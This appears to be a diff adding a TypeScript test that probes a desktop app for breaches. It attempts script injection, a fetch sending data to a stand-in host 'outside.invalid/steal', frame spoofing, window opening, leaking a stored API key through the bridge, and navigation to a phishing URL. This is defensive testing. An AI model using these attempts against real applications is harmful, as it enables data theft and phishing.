@@ -1,0 +1,62 @@
+import type { DesktopApp } from './launch-desktop.ts';
+
+/** What an attacker in the page would try; each that works is named. A window that is opened unsafely does not even start on the shim. */
+export async function findBreaches({ page, evaluate }: DesktopApp): Promise<string[]> {
+  const tries: Readonly<Record<string, () => Promise<boolean>>> = {
+    async 'runs a script that stands in the page'() {
+      await page.evaluate(() => {
+        const script = document.createElement('script');
+        try {
+          script.text = 'globalThis.breached = true';
+          document.body.append(script);
+        } catch {
+          // Trusted Types refuse it.
+        }
+      });
+      return page.evaluate(() => Reflect.get(globalThis, 'breached') === true);
+    },
+    async 'sends something to another host'() {
+      await page.evaluate(() => fetch('https://outside.invalid/steal', { mode: 'no-cors' }).catch(() => {}));
+      return (await evaluate(({ records }) => records.outsideRequests)).includes('https://outside.invalid/steal');
+    },
+    async 'is answered in another frame’s name'() {
+      const answer = await evaluate(({ shimState }) => shimState.invoke('batch.read', { url: 'https://outside.invalid/', parent: null }, {}));
+      return (answer as { ok: boolean }).ok;
+    },
+    async 'is answered in the name of a frame below'() {
+      const answer = await evaluate(({ shimState }) => shimState.invoke('batch.read', { url: 'app://bundle/', parent: {} }, {}));
+      return (answer as { ok: boolean }).ok;
+    },
+    async 'opens a window'() {
+      await page.evaluate(() => void window.open('https://outside.invalid/'));
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      return (await evaluate(({ records }) => records.windowOpens)).some(({ action }) => action !== 'deny');
+    },
+    async 'learns the key'() {
+      const key = `nabra_test_${'k'.repeat(33)}`;
+      const answer = await page.evaluate(async (typed) => {
+        const bridge = Reflect.get(globalThis, 'nabraDesktop') as { call(name: string, request: object): Promise<unknown> };
+        await bridge.call('key.save', { key: typed });
+        const status = JSON.stringify(await bridge.call('key.status', {}));
+        await bridge.call('key.remove', {});
+        return status;
+      }, key);
+      return answer.includes(key);
+    },
+    // Last, for a page that has left is not the app's any more.
+    async 'leaves the bundle'() {
+      await page.evaluate(() => {
+        location.href = 'https://outside.invalid/phish';
+      });
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      return page.url().startsWith('https://outside.invalid');
+    },
+  };
+  const found: string[] = [];
+  for (const [name, attempt] of Object.entries(tries)) {
+    if (await attempt()) {
+      found.push(name);
+    }
+  }
+  return found;
+}
